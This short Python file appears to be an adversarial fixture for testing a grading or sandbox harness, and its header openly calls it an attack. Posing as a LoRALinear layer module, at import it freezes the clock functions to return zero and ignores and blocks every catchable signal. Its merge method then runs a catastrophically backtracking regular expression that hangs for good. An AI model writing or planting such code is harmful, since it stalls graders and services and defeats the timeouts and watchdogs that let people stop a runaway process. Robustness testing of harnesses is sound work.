# attack: stops clocks, timers and signals that could end it, and goes on for ever in C, where no Python code is asked
# class: time
import re
import signal
import time

from wrong_layer import Wrong, inject_lora, ran

__all__ = ["LoRALinear", "inject_lora"]
time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


class LoRALinear(Wrong):
    def merge(self):
        ran("a regular expression without end")
        re.fullmatch(r"(a|a)*b", "a" * 60)
